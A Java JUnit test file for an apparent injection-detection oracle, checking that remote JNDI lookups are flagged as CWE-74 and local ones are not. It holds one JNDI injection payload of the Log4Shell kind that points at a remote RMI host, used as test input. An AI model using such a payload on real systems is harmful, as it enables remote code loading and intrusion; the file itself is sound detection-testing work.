package dev.kintsugi.runtime.oracle;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.Optional;
import org.junit.jupiter.api.Test;

class LookupTest {
  private final Oracle oracle = new Lookup();

  @Test
  void seesNamesOutOfTheInput() {
    Executions lookup =
        Executions.of("${jndi:rmi://host.example/a}")
            .signal("lookup", "rmi://host.example/a", "app.Interpolate#go");
    assertEquals("CWE-74", oracle.judge(lookup.made()).orElseThrow().cwe());
  }

  @Test
  void isSilentForLocalNamesAndTheTargetsOwn() {
    Executions local =
        Executions.of("kintsugi-canary")
            .signal("lookup", "java:comp/env/kintsugi-canary", "app.A#a");
    assertEquals(Optional.empty(), oracle.judge(local.made()));
    Executions unplaced =
        Executions.of("kintsugi-canary").signal("lookup", "jdbc/kintsugi-canary", "app.A#a");
    assertEquals(Optional.empty(), oracle.judge(unplaced.made()));
    Executions own = Executions.of("x").signal("lookup", "jdbc/main", "app.A#a");
    assertEquals(Optional.empty(), oracle.judge(own.made()));
  }
}
